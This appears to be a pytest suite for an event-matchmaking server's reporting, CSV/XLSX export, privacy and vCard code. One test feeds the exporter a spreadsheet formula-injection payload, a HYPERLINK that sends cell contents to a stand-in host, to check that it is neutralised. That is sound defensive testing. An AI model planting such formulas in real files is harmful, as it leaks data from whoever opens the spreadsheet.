"""What the event produced: the report's figures, the results files, contacts, connected time."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import msgspec
import openpyxl
import pytest

from server.core import feedback, logs, rounds
from server.core.clock import ClockCommand
from server.core.matching import PlannedRoom, RoundPlan
from server.core.model import Feedback
from server.errors import ProtocolError
from server.results import dialects, exports, figures, meter, summary, vcard
from tests.core.scripted import HERE, NAMES, scripted
from tests.core.states import T0, checked, event, in_round

# --- the report on the scripted event -------------------------------------------------------


@pytest.fixture(scope="module")
def report() -> dict:  # type: ignore[type-arg]
    return figures.report(*scripted())


def test_totals(report: dict) -> None:  # type: ignore[type-arg]
    t = report["totals"]
    assert (t["participants"], t["met_someone"], t["met_nobody"]) == (7, 6, 1)
    assert (t["planned"], t["met"], t["held"], t["no_shows"]) == (8, 7, 5, 1)
    assert t["connected_minutes"] == 13.7  # 820 s
    assert (t["ratings"], t["rating_average"]) == (10, 3.4)
    assert [r["count"] for r in t["rating_distribution"]] == [1, 2, 1, 4, 2]
    assert t["mutual"] == 2


def test_by_round(report: dict) -> None:  # type: ignore[type-arg]
    r1, r2 = report["by_round"]
    assert (r1["round"], r1["start"], r1["end"]) == (1, T0, T0 + 300_000)
    assert (r1["planned"], r1["met"], r1["held"], r1["no_shows"]) == (5, 4, 3, 1)
    assert (r1["connected_minutes"], r1["ratings"], r1["rating_average"], r1["mutual"]) == (
        7.2, 7, 3.43, 1,
    )  # fmt: skip
    assert (r2["start"], r2["end"]) == (T0 + 360_000, T0 + 660_000)
    assert (r2["planned"], r2["met"], r2["held"], r2["no_shows"]) == (3, 3, 2, 0)
    assert (r2["connected_minutes"], r2["ratings"], r2["rating_average"], r2["mutual"]) == (
        6.5, 3, 3.33, 1,
    )  # fmt: skip


def test_follow_ups_by_reason_count_one_sided_wishes_without_names(report: dict) -> None:  # type: ignore[type-arg]
    f = report["follow_ups"]
    assert (f["mutual"], f["one_sided"]) == (2, 2)
    by = {r["reason"]: (r["mutual"], r["one_sided"]) for r in f["by_reason"]}
    assert by == {
        "conversation": (1, 0),
        "documentation": (0, 1),
        "demonstration": (1, 0),
        "experiment": (1, 0),
        "purchase": (2, 0),
        "unspecified": (0, 1),
    }


def test_by_side_and_which_sides_met(report: dict) -> None:  # type: ignore[type-arg]
    commune, solution = report["by_side"]
    assert commune == {
        "group": "commune", "participants": 3, "met_someone": 3, "met": 6, "held": 5,
        "connected_minutes": 13.7, "ratings": 9, "rating_average": 3.67, "mutual": 2,
        "no_shows": 0, "rating_given": 3.6, "rating_received": 3.75,
    }  # fmt: skip
    assert solution["group"] == "solution"
    assert (solution["participants"], solution["met_someone"], solution["met"]) == (4, 3, 7)
    assert (solution["no_shows"], solution["rating_given"], solution["rating_received"]) == (
        1, 3.2, 3.17,
    )  # fmt: skip
    assert report["sides_met"] == [
        {"a": "commune", "b": "solution", "met": 6, "held": 5, "mutual": 2},
        {"a": "solution", "b": "solution", "met": 1, "held": 0, "mutual": 0},
    ]


def test_by_tag_and_which_tags_met() -> None:
    # c1 needs mobility; s1 offers mobility and water, s2 water; the others carry no tag
    state, entries, counters = scripted()
    tags = {"c1": ("mobilité",), "s1": ("mobilité", "eau"), "s2": ("eau",)}
    people = {
        pid: msgspec.structs.replace(p, tags=tags.get(pid, ()))
        for pid, p in state.participants.items()
    }
    out = figures.report(msgspec.structs.replace(state, participants=people), entries, counters)
    eau, mobilite = out["by_tag"]
    # eau (s1, s2): c1-s1, c2-s2, s2-s3 (never connected), c1-s2, c2-s1
    assert eau == {
        "group": "eau", "participants": 2, "met_someone": 2, "met": 5, "held": 4,
        "connected_minutes": 12.7, "ratings": 8, "rating_average": 3.12, "mutual": 2,
        "no_shows": 0, "rating_given": 2.75, "rating_received": 3.5,
    }  # fmt: skip
    # mobilité (c1, s1): c1-s1 counts once though both carry the tag
    assert mobilite["group"] == "mobilité"
    assert (mobilite["participants"], mobilite["met"], mobilite["held"], mobilite["mutual"]) == (
        2, 3, 3, 2,
    )  # fmt: skip
    # c2 has no tag: c2-s1 and c2-s2 meet no pair of tags
    assert out["tags_met"] == [
        {"a": "eau", "b": "mobilité", "met": 2, "held": 2, "mutual": 2},
        {"a": "mobilité", "b": "mobilité", "met": 1, "held": 1, "mutual": 1},
    ]
    # an event whose profiles carry no tag has none
    assert figures.report(*scripted())["by_tag"] == []


def test_by_participant_shows_no_one_sided_wish(report: dict) -> None:  # type: ignore[type-arg]
    people = {p["id"]: p for p in report["by_participant"]}
    assert people["c1"] == {
        "id": "c1", "name": "Claire Martin", "organization": "Org c1", "side": "commune",
        "met": 2, "held": 2, "connected_minutes": 9.2, "no_shows": 0, "rating_given": 4.5,
        "rating_received": 4.0, "mutual": 2,
    }  # fmt: skip
    assert (people["s4"]["met"], people["s4"]["no_shows"], people["s4"]["rating_given"]) == (
        0, 1, None,
    )  # fmt: skip
    # c2 and s3 each made a one-sided wish: nothing per person says so
    for row in report["by_participant"]:
        assert set(row) == set(people["c1"])
        assert "one_sided" not in str(row) and "follow" not in str(row)


def test_no_figure_of_the_report_names_a_one_sided_wish(report: dict) -> None:  # type: ignore[type-arg]
    # the only place one-sided wishes appear: the totals and the count by reason
    text = msgspec.json.encode({k: v for k, v in report.items() if k != "follow_ups"}).decode()
    assert "one_sided" not in text


def test_the_report_of_an_event_not_started_is_empty() -> None:
    out = figures.report(event(["c1", "s1"]), [], {})
    assert out["by_round"] == [] and out["totals"]["met_nobody"] == 2
    assert out["totals"]["rating_average"] is None


# --- the results files ----------------------------------------------------------------------


def _rows() -> list[list[exports.Value]]:
    state, entries, counters = scripted()
    return exports.rows(state, entries, counters, UTC)


def test_one_row_per_meeting_and_per_person_who_met_nobody() -> None:
    rows = [dict(zip(exports.HEADER, r, strict=True)) for r in _rows()]
    meetings = [r for r in rows if r["kind"] == "meeting"]
    assert [(r["room"], r["a_id"], r["b_id"]) for r in meetings] == [
        ("r1-1", "c1", "s1"),
        ("r1-2", "c2", "s2"),  # a room of three: one row per pair
        ("r1-2", "c2", "s3"),
        ("r1-2", "s2", "s3"),
        ("r1-3", "c3", "s4"),  # s4 never came: a row, which says so
        ("r2-1", "c1", "s2"),
        ("r2-2", "c2", "s1"),
        ("r2-3", "c3", "s3"),
    ]
    assert [r["took_place"] for r in meetings] == ["yes"] * 4 + ["no"] + ["yes"] * 3
    (nobody,) = [r for r in rows if r["kind"] == "met_nobody"]
    assert (nobody["a_id"], nobody["a_name"], nobody["b_id"], nobody["round"]) == (
        "s4", "Noé Absent", None, None,
    )  # fmt: skip
    first = meetings[0]
    assert (first["start"], first["end"]) == (
        datetime.fromtimestamp(T0 / 1000, UTC).replace(tzinfo=None),
        datetime.fromtimestamp((T0 + 300_000) / 1000, UTC).replace(tzinfo=None),
    )
    assert (first["connected_seconds"], first["a_rating"], first["b_rating"]) == (250, 5, 4)
    assert (first["mutual_follow_up"], first["a_reasons"], first["b_reasons"]) == (
        "yes", "experiment purchase", "demonstration",
    )  # fmt: skip
    assert (first["a_email"], first["b_email"]) == ("c1@example.org", "s1@example.org")
    assert [r["connected_seconds"] for r in meetings] == [250, 120, 60, 0, 0, 300, 90, 0]


def test_a_one_sided_wish_shows_as_none_in_the_files() -> None:
    rows = [dict(zip(exports.HEADER, r, strict=True)) for r in _rows()]
    one_sided = [r for r in rows if (r["a_id"], r["b_id"]) in (("c2", "s2"), ("c2", "s3"))]
    for r in one_sided:
        assert r["mutual_follow_up"] == "no"
        assert (r["a_reasons"], r["b_reasons"], r["a_email"], r["b_email"]) == ("", "", "", "")
    # the ratings and notes are kept (the organiser's own view of each meeting)
    assert [(r["a_rating"], r["b_rating"]) for r in one_sided] == [(3, 2), (4, 5)]


def test_csv_is_utf8_with_a_bom_and_reads_back() -> None:
    body = exports.to_csv(_rows())
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    # the machine names; the column of follow-ups' times says their zone
    assert list(rows[0]) == [*exports.HEADER[:-1], "follow_up_start (UTC)"]
    assert len(rows) == 9
    assert {r["b_name"] for r in rows} >= {"Léa Garnier", "Åsa Öberg"}
    assert rows[0]["start"] == datetime.fromtimestamp(T0 / 1000, UTC).strftime("%Y-%m-%d %H:%M:%S")
    semicolons = exports.to_csv(_rows(), dialects.chosen({"sep": "semicolon"}, "en"))
    assert semicolons.decode("utf-8-sig").splitlines()[0] == ";".join(list(rows[0]))


def test_an_english_file_keeps_the_programs_names() -> None:
    # what programs reading the API got before files spoke the event's language
    text = exports.to_csv(_rows(), dialects.of("en")).decode("utf-8-sig")
    assert text.splitlines()[0] == (
        "kind,round,room,reason,start,end,connected_seconds,took_place,"
        "a_id,a_name,a_organization,a_side,b_id,b_name,b_organization,b_side,"
        "a_rating,b_rating,mutual_follow_up,a_reasons,b_reasons,a_email,b_email,a_note,b_note,"
        "follow_up_start (UTC)"
    )
    first = next(csv.DictReader(io.StringIO(text)))
    assert (first["kind"], first["reason"], first["took_place"]) == ("meeting", "fill", "yes")
    assert (first["mutual_follow_up"], first["a_reasons"]) == ("yes", "experiment purchase")


def test_a_french_file_is_what_a_french_office_opens() -> None:
    body = exports.to_csv(_rows(), dialects.of("fr"))
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    head = text.splitlines()[0].split(";")
    assert head[:8] == [
        "Type", "Tour", "Salle", "Motif de la rencontre", "Début", "Fin",
        "Durée connectée (s)", "A eu lieu",
    ]  # fmt: skip
    assert len(head) == len(exports.HEADER) and "Suite souhaitée des deux côtés" in head
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    first = rows[0]
    assert (first["Type"], first["Motif de la rencontre"], first["A eu lieu"]) == (
        "rencontre", "mise en relation", "oui",
    )  # fmt: skip
    assert first["Suite souhaitée des deux côtés"] == "oui"
    assert first["Suites voulues par A"] == "expérimentation, achat"
    assert first["Suites voulues par B"] == "démonstration"
    start = datetime.fromtimestamp(T0 / 1000, UTC)
    assert first["Début"] == start.strftime("%d/%m/%Y %H:%M:%S")
    assert [r["A eu lieu"] for r in rows if r["Type"] == "rencontre"].count("non") == 1
    (nobody,) = [r for r in rows if r["Type"] == "aucune rencontre"]
    assert nobody["Nom A"] == "Noé Absent"
    # a name is not a code: only the coded columns are written in words
    assert {r["Nom B"] for r in rows} >= {"Léa Garnier", "Åsa Öberg"}


def test_numbers_with_decimals_take_the_languages_mark() -> None:
    fr, en = dialects.of("fr"), dialects.of("en")
    assert (dialects.text(fr, 12.5), dialects.text(en, 12.5)) == ("12,5", "12.5")
    assert (dialects.text(fr, 3.0), dialects.text(fr, 250), dialects.text(fr, None)) == (
        "3", "250", "",
    )  # fmt: skip
    body = dialects.to_csv(fr, ["Minutes"], [[0.25], ["=1+1"]]).decode("utf-8-sig")
    assert body.splitlines() == ["Minutes", "0,25", "'=1+1"]


def test_a_download_says_its_language_or_is_refused() -> None:
    assert dialects.chosen({}, "fr").separator == ";"
    assert dialects.chosen({}, "en").separator == ","
    assert dialects.chosen({"lang": "en"}, "fr") == dialects.ENGLISH
    assert dialects.chosen({"lang": "fr"}, "en") == dialects.FRENCH
    comma = dialects.chosen({"lang": "fr", "sep": "comma"}, "en")
    assert (comma.lang, comma.separator) == ("fr", ",")
    for query in ({"lang": "de"}, {"lang": ""}, {"sep": "tab"}):
        with pytest.raises(ProtocolError) as caught:
            dialects.chosen(query, "fr")
        assert caught.value.code == "bad_request" and "write" in str(caught.value)


@pytest.mark.parametrize(
    ("title", "slug"),
    [
        ("Matinale AMIF", "matinale-amif"),
        ("Élus × innovateurs : l’œuvre commune !", "elus-innovateurs-l-oeuvre-commune"),
        ("Straße 2026", "strasse-2026"),
        ("東京", "event"),
        ("a" * 40 + " " + "b" * 40, "a" * 40),  # cut between words
    ],
)
def test_a_title_becomes_a_file_names_part(title: str, slug: str) -> None:
    assert dialects.slug(title) == slug


def test_one_file_name_scheme_with_a_proper_disposition() -> None:
    day = date(2026, 12, 5)
    fr, en = dialects.of("fr"), dialects.of("en")
    assert dialects.file_name(fr, "Matinale AMIF", day, "meetings", "csv") == (
        "matinale-amif-2026-12-05-rencontres.csv"
    )
    assert dialects.file_name(en, "Matinale AMIF", day, "meetings", "xlsx") == (
        "matinale-amif-2026-12-05-meetings.xlsx"
    )
    assert dialects.file_name(fr, "東京", day, "links", "csv") == "evenement-2026-12-05-liens.csv"
    assert dialects.disposition("matinale-amif-2026-12-05-rencontres.csv") == (
        'attachment; filename="matinale-amif-2026-12-05-rencontres.csv"'
    )
    assert dialects.disposition('réunion "x".csv') == (
        "attachment; filename=\"runion x.csv\"; filename*=UTF-8''r%C3%A9union%20%22x%22.csv"
    )
    state, _, _ = scripted()
    named = dialects.event_file_name(fr, state, ZoneInfo("Europe/Paris"), "meetings", "csv")
    assert named.endswith("-rencontres.csv") and named.count("-20") == 1


def test_times_are_written_in_the_configured_time_zone() -> None:
    state, entries, counters = scripted()
    paris = exports.rows(state, entries, counters, ZoneInfo("Europe/Paris"))
    utc = exports.rows(state, entries, counters, UTC)
    start = exports.HEADER.index("start")
    offset = paris[0][start] - utc[0][start]  # type: ignore[operator]
    assert offset in (timedelta(hours=1), timedelta(hours=2))


def test_xlsx_reads_back_through_openpyxl() -> None:
    body = exports.to_xlsx(_rows(), "Maires × innovateurs", dialects.of("en"))
    book = openpyxl.load_workbook(io.BytesIO(body))
    sheet = book["meetings"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == tuple(exports.header(dialects.of("en")))
    assert values[0][:-1] == exports.HEADER[:-1]
    assert len(values) == 10
    assert values[1][exports.HEADER.index("a_name")] == "Claire Martin"
    assert values[3][exports.HEADER.index("b_name")] == "Åsa Öberg"
    assert values[1][exports.HEADER.index("connected_seconds")] == 250
    assert isinstance(values[1][exports.HEADER.index("start")], datetime)
    assert values[9][:2] == ("met_nobody", None)
    assert values[9][exports.HEADER.index("a_name")] == "Noé Absent"


def test_a_french_workbook_names_its_sheet_and_columns_in_french() -> None:
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(_rows(), "t", dialects.of("fr"))))
    assert book.sheetnames == ["rencontres"]
    sheet = book["rencontres"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == tuple(exports.header(dialects.of("fr")))
    assert values[1][:2] == ("rencontre", 1) and values[9][0] == "aucune rencontre"
    start = exports.HEADER.index("start")
    assert isinstance(values[1][start], datetime)  # a time, shown the French way
    assert sheet.cell(row=2, column=start + 1).number_format == "dd/mm/yyyy hh:mm:ss"


def test_no_cell_runs_as_a_formula() -> None:
    state, entries, counters = scripted()
    evil = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    people = dict(state.participants)
    people["c1"] = msgspec.structs.replace(people["c1"], name=evil, organization="@SUM(1+1)")
    people["s1"] = msgspec.structs.replace(people["s1"], name="+1\x07bell")
    state = msgspec.structs.replace(state, participants=people)
    rows = exports.rows(state, entries, counters, UTC)
    text = exports.to_csv(rows).decode("utf-8-sig")
    for row in list(csv.reader(io.StringIO(text)))[1:]:
        assert not any(v.startswith(exports.FORMULA) for v in row), row
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(rows, "t")))
    cells = [c for row in book["meetings"].iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    names = {c.value for c in cells}
    assert evil in names and "+1bell" in names  # kept as text; a control character dropped


# --- follow-ups with a reason ---------------------------------------------------------------


def test_reasons_go_with_a_follow_up_and_come_in_one_order() -> None:
    state = checked(in_round(event(["c1", "s1"]), [("c1", "s1")]))
    out = feedback.give_feedback(
        state, "c1", "r1-1", 4, True, "", T0, reasons=["purchase", "conversation", "purchase"]
    )
    (entry,) = out.entries
    assert isinstance(entry, Feedback) and entry.reasons == ("conversation", "purchase")
    with pytest.raises(ProtocolError):
        feedback.give_feedback(state, "c1", "r1-1", 4, False, "", T0, reasons=["purchase"])
    with pytest.raises(ProtocolError):
        feedback.give_feedback(state, "c1", "r1-1", 4, True, "", T0, reasons=["bribe"])  # type: ignore[list-item]


def test_a_summary_shows_the_other_side_only_when_both_want_to_follow_up() -> None:
    state, entries, _ = scripted()
    rated = logs.ratings(entries)

    def peer(pid: str, room: str, other: str) -> dict:  # type: ignore[type-arg]
        s = summary.summary_payload(state, rated, pid)
        m = next(m for m in s["meetings"] if m["room"] == room)
        return next(p for p in m["peers"] if p["id"] == other)

    c1 = peer("c1", "r1-1", "s1")
    assert (c1["mutual_follow_up"], c1["email"], c1["their_reasons"]) == (
        True, "s1@example.org", ["demonstration"],
    )  # fmt: skip
    assert (c1["reasons"], c1["note"], c1["rating"]) == (
        ["experiment", "purchase"],
        "note c1>s1",
        5,
    )
    # c2 wants to follow up with s2, who does not: neither learns anything of the other
    c2 = peer("c2", "r1-2", "s2")
    s2 = peer("s2", "r1-2", "c2")
    for p in (c2, s2):
        assert p["mutual_follow_up"] is False
        assert "email" not in p and "their_reasons" not in p
    assert (c2["follow_up"], c2["reasons"]) == (True, ["documentation"])  # their own, kept
    assert (s2["follow_up"], s2["reasons"], s2["rating"]) == (False, [], 2)
    # what s2 is told of c2 is the same whether or not c2 wanted to follow up
    quiet = [e for e in entries if not (isinstance(e, Feedback) and e.participant == "c2")]
    again = summary.summary_payload(state, logs.ratings(quiet), "s2")
    before = summary.summary_payload(state, rated, "s2")
    assert again == before


# --- the round's record: ends, planned rooms, absences, re-pairings ---------------------------


def test_the_no_show_check_records_who_was_absent_and_stamps_new_rooms() -> None:
    four = ["c1", "c2", "s1", "s2"]
    plan = RoundPlan(
        rooms=(PlannedRoom(members=("c1", "s1"), reason="fill"),
               PlannedRoom(members=("c2", "s2"), reason="fill")),
        waiting=(),
    )  # fmt: skip
    start = rounds.move_clock(
        event(four), ClockCommand.START, T0, frozenset(four), "host", plan=plan
    )
    record = start.state.current()
    assert record is not None and record.planned == (("c1", "s1"), ("c2", "s2"))
    out = rounds.check_no_shows(start.state, frozenset({"c1", "s2"}), T0 + 45_000)
    after = out.state.current()
    assert after is not None and after.absent == ("c2", "s1")
    (new,) = [r for r in after.rooms if r.reason == "repaired"]
    assert (set(new.members), new.started_at) == ({"c1", "s2"}, T0 + 45_000)
    assert new.id not in {r.id for r in record.rooms}


def test_a_partner_met_this_round_who_left_is_no_no_show() -> None:
    """Who had a call connected this round (``met``) came: the other is neither re-paired nor
    told "your partner has not arrived", and nobody is absent."""
    four = ["c1", "c2", "s1", "s2"]
    plan = RoundPlan(
        rooms=(PlannedRoom(members=("c1", "s1"), reason="fill"),
               PlannedRoom(members=("c2", "s2"), reason="fill")),
        waiting=(),
    )  # fmt: skip
    start = rounds.move_clock(
        event(four), ClockCommand.START, T0, frozenset(four), "host", plan=plan
    )
    # s1 left after a call with c1, c2 after one with s2: c1 and s2 are online
    met = frozenset({"c1", "s1", "c2", "s2"})
    out = rounds.check_no_shows(start.state, frozenset({"c1", "s2"}), T0 + 45_000, met)
    after = out.state.current()
    assert after is not None
    assert (after.absent, after.alone, out.result) == ((), (), {"paired": [], "alone": []})
    assert [r.members for r in after.rooms] == [("c1", "s1"), ("c2", "s2")]
    assert not [m for m in out.messages if m.event == "notice"]


def test_scripted_rounds_carry_their_ends() -> None:
    state, _, _ = scripted()
    assert [(r.started_at, r.ended_at) for r in state.history] == [
        (T0, T0 + 300_000),
        (T0 + 360_000, T0 + 660_000),
    ]
    assert state.history[0].absent == ("s4",)
    assert HERE and NAMES


# --- connected time ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("previous", "current", "expected"),
    [
        (None, ("r1", 5000, {"p2"}), {}),  # the first report starts the meter
        (("r1", 0, {"p2"}), ("r1", 5000, {"p2"}), {("r1", "me", "p2"): 5000}),
        (("r1", 0, {"p2", "p3"}), ("r1", 5000, {"p2"}), {("r1", "me", "p2"): 5000}),
        (("r1", 0, set()), ("r1", 5000, {"p2"}), {}),  # not up before: not counted
        (("r1", 0, {"p2"}), ("r2", 5000, {"p2"}), {}),  # another room: starts again
        (("r1", 0, {"p2"}), ("r1", 600_000, {"p2"}), {("r1", "me", "p2"): meter.CAP_MS}),
        (("r1", 5000, {"p2"}), ("r1", 4000, {"p2"}), {}),  # a clock that went back
    ],
)
def test_the_meter_counts_time_between_reports_of_a_call_up(
    previous: tuple[str, int, set[str]] | None,
    current: tuple[str, int, set[str]],
    expected: dict[tuple[str, str, str], int],
) -> None:
    def reading(spec: tuple[str, int, set[str]] | None) -> meter.Reading | None:
        if spec is None:
            return None
        room, at, up = spec
        return meter.Reading(room=room, at=at, up=frozenset(up))

    assert meter.credit(reading(previous), reading(current), "me") == expected


def test_a_report_reads_each_call_or_the_room_of_an_earlier_page() -> None:
    r = meter.reading("r1", "failed", [("p2", "connected"), ("p3", "checking")], 7)
    assert r == meter.Reading(room="r1", at=7, up=frozenset({"p2"}))
    assert meter.reading("r1", "connected", [], 7) == meter.Reading(
        room="r1", at=7, up=frozenset({meter.ROOM})
    )
    assert meter.reading(None, "connected", [], 7) is None
    counters = {("r1", "a", "b"): 10, ("r1", "b", meter.ROOM): 30}
    assert meter.pair_ms(counters, "r1", "a", "b", None) == 30
    assert meter.pair_ms(counters, "r1", "a", "b", 20) == 20


# --- contacts as vCards -----------------------------------------------------------------------


def test_vcards_escape_and_fold() -> None:
    text = vcard.card(
        vcard.Contact(
            name="Léa Garnier; CEO, Mobilis",
            organization="Mobilis",
            email="lea@mobilis.example",
            note="Met at Maires × innovateurs\nround 2 " + "é" * 80,
        )
    )
    lines = text.split("\r\n")
    assert lines[:3] == ["BEGIN:VCARD", "VERSION:3.0", "FN:Léa Garnier\\; CEO\\, Mobilis"]
    assert "EMAIL;TYPE=INTERNET:lea@mobilis.example" in lines and lines[-2:] == ["END:VCARD", ""]
    assert all(len(line.encode()) <= 75 for line in lines)
    unfolded = text.replace("\r\n ", "")
    assert "NOTE:Met at Maires × innovateurs\\nround 2 " + "é" * 80 in unfolded


@pytest.mark.parametrize(
    ("name", "family", "given"),
    [
        ("Sophie Martin", "Martin", "Sophie"),
        ("Jean-Pierre Dubois", "Dubois", "Jean-Pierre"),
        ("Marie Claire Petit", "Petit", "Marie Claire"),  # a first name of two words
        ("Jean de La Fontaine", "de La Fontaine", "Jean"),  # particles go with the family name
        ("Ludwig van Beethoven", "van Beethoven", "Ludwig"),
        ("Anna van der Berg", "van der Berg", "Anna"),
        ("Charles de Gaulle", "de Gaulle", "Charles"),
        ("Jeanne d'Arc", "d'Arc", "Jeanne"),
        ("MARTIN Sophie", "MARTIN", "Sophie"),  # the family name in capitals, first
        ("DE LA FONTAINE Jean", "DE LA FONTAINE", "Jean"),
        ("Martin, Sophie", "Martin", "Sophie"),  # "family, given"
        ("Madonna", "Madonna", ""),  # one word: the family name
        ("  Léa   Garnier ", "Garnier", "Léa"),
        ("", "", ""),
        ("Sophie de", "de", "Sophie"),  # a particle alone is the family name, not dropped
    ],
)
def test_a_name_splits_into_family_and_given_names(name: str, family: str, given: str) -> None:
    assert vcard.name_parts(name) == (family, given)


def test_the_vcard_n_field_holds_the_family_name_then_the_given_name() -> None:
    lines = vcard.card(vcard.Contact(name="Sophie Martin")).split("\r\n")
    assert "FN:Sophie Martin" in lines and "N:Martin;Sophie;;;" in lines
    lines = vcard.card(vcard.Contact(name="Léa Garnier; CEO")).split("\r\n")
    assert "N:CEO;Léa Garnier\\;;;;" in lines  # escaped like every value


def test_a_partner_who_never_came_is_no_meeting_of_the_summary() -> None:
    state, entries, counters = scripted()
    rated = logs.ratings(entries)
    c3 = summary.summary_payload(state, rated, "c3", counters)
    assert [(m["room"], [p["id"] for p in m["peers"]]) for m in c3["meetings"]] == [
        ("r2-3", ["s3"])
    ]  # r1-3 with s4, absent at the no-show check, is not a meeting
    assert summary.summary_payload(state, rated, "s4", counters)["meetings"] == []
    sent = {m.to: m.data for m in summary.summaries(state, entries, counters)}
    assert sent["p:c3"] == c3
    # the same absent partner whose call was measured (they came later) met them after all
    late = {**counters, ("r1-3", "s4", "c3"): 30_000}
    rooms = [m["room"] for m in summary.summary_payload(state, rated, "c3", late)["meetings"]]
    assert rooms == ["r1-3", "r2-3"]
